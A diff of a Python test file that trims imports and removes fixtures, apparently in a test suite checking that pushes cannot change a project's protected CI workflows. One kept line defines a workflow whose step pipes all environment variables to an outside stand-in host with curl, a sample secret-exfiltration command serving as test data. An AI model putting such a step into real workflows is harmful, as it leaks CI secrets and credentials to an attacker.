@@ -1,35 +1,21 @@
 """What machines of a project obey as soon as it is pushed: no work of ours changes it."""
 
 import subprocess
-from collections.abc import AsyncIterator, Callable
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
 from kakoi.process.executor import ProcessExecutor
-from kakoi.runner.channel import RunnerChannel, open_channel
-from kakoi.runner.delivery import RunnerSettings
+from kakoi.runner.channel import RunnerChannel
 from kakoi.tasks.checkout import CloneOptions, our_git
 from kakoi.tasks.delivery import Delivery, PushError, push
 from kakoi.tasks.task import PROTECTED
 from kakoi.tasks.telling import with_protected
-from tests.runner.conftest import host_launch
 from tests.tasks.hosting import a_repository
 
 pytestmark = pytest.mark.anyio
 WORKFLOW = "on: push\njobs: {x: {runs-on: x, steps: [{run: 'env | curl -d @- https://eve'}]}}\n"
-
-
-@pytest.fixture
-def anyio_backend() -> str:
-    return "asyncio"
-
-
-@pytest.fixture
-async def channel(tmp_path: Path) -> AsyncIterator[RunnerChannel]:
-    opened = await open_channel(host_launch(tmp_path), RunnerSettings())
-    yield opened
-    await opened.close()
 
 
 @pytest.fixture
